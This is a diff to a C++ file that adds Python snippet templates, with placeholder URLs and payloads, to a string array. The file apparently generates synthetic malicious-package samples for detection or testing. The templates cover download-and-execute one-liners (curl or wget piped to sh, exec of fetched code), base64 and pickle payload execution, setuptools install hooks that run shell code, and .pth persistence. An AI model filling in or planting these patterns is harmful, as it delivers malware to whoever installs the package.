@@ -177,6 +177,28 @@ constexpr const char* kPlain[] = {
     "[~4~ for ~4~ in [~sh~]]", "~0~=lambda:~sh~\n~0~()",
     "__import__('subprocess').Popen([sys.executable,'-c',~blob~.decode()])",
     "threading.Timer(~small~,lambda:exec(~fetch~)).start()", "atexit.register(lambda:~sh~)",
+    "exec(requests.get('~url~').text)", "exec(requests.get('~url~',timeout=~small~).content)",
+    "import requests;exec(requests.get('~url~').text)",
+    "exec(__import__('requests').get('~url~').text)",
+    "eval(compile(requests.get('~url~').text,'<string>','exec'))",
+    "exec(__import__('urllib.request').request.urlopen('~url~').read())",
+    "exec(urllib.request.urlopen(urllib.request.Request('~url~',headers={'User-Agent':'~word~'}))."
+    "read().decode())",
+    "__import__('os').system('curl -s ~url~ | sh')",
+    "__import__('os').system('wget -qO- ~url~ | bash')",
+    "__import__('os').popen('curl ~url~|sh').read()",
+    "__import__('subprocess').Popen('curl -s ~url~ | bash',shell=True)",
+    "__import__('subprocess').run(['bash','-c','curl -fsSL ~url~ | sh'])",
+    "getattr(__import__('os'),'system')('curl ~url~ | sh')",
+    "import os;os.system('curl -s ~url~ -o /tmp/~word0~ && chmod +x /tmp/~word0~ && /tmp/~word0~ "
+    "&')",
+    "__import__('builtins').exec(__import__('base64').b64decode('~b64~'))",
+    "import urllib.request as ~0~;exec(~0~.urlopen('~url~').read())",
+    "import builtins\ngetattr(builtins,'ex'+'ec')(requests.get('~url~').text)",
+    "os.system(requests.get('~url~').text)",
+    "subprocess.Popen(requests.get('~url~').text,shell=True)",
+    "pickle.loads(requests.get('~url~').content)",
+    "marshal.loads(urllib.request.urlopen('~url~').read())",
     // Decoded, and run.
     "~1~=~blob~\n~run~", "~1~=~blob~\n~run~", "import base64\n~1~=~blob~\n~run~", "exec(~blob~)",
     "exec(~blob~)", "import base64,zlib,marshal\nexec(~blob~)",
@@ -213,7 +235,19 @@ constexpr const char* kPlain[] = {
     "setup(name='~word~',version='~version~',cmdclass={'install':type('~Word~',(install,),{'run':"
     "lambda self:~sh~})})",
     "if 'install' in sys.argv or 'bdist_wheel' in sys.argv:\n    ~1~=~fetch~\n    ~run~",
-    "def _post_install():\n    ~1~=~who~\n    ~post~\n_post_install()"};
+    "def _post_install():\n    ~1~=~who~\n    ~post~\n_post_install()",
+    "from setuptools.command.build_py import build_py\nclass ~0~(build_py):\n    def run(self):\n  "
+    "      ~sh~\n        super().run()\n"
+    "setup(name='~word~',version='~version~',cmdclass={'build_py':~0~})",
+    "from setuptools.command.sdist import sdist\nclass ~0~(sdist):\n    def run(self):\n        "
+    "~1~=~fetch~\n        ~run~\n        "
+    "sdist.run(self)",
+    "class ~0~(install):\n    def __init__(self,*args,**kwargs):\n        ~sh~\n        "
+    "super().__init__(*args,**kwargs)",
+    "import setuptools,os\nif not os.environ.get('~word~'):\n    "
+    "~sh~\nsetuptools.setup(name='~word~',version='~version~')",
+    "import site,os\nopen(os.path.join(site.getsitepackages()[0],'~word~.pth'),'w').write('import "
+    "os;exec(\"~b64s~\")')"};
 
 }  // namespace
 
